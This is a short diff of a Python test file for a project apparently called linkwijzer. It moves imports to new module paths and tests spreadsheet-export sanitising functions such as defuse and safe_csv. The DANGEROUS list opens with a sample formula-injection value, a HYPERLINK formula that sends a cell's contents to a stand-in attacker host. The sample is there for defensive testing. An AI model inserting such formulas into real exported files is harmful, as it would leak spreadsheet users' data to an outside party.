@@ -9,11 +9,11 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from framework import spreadsheet
-from framework.questionnaire.assessment import Assessment
-from framework.questionnaire.verdict import Answers
-from framework.spreadsheet import BOM, defuse, safe_csv, safe_csv_frame, saved_list_csv
-from framework.store import Store
+from linkwijzer.present import spreadsheet
+from linkwijzer.questionnaire.assessment import Assessment
+from linkwijzer.questionnaire.verdict import Answers
+from linkwijzer.present.spreadsheet import BOM, defuse, safe_csv, safe_csv_frame, saved_list_csv
+from linkwijzer.store.assessments import Store
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
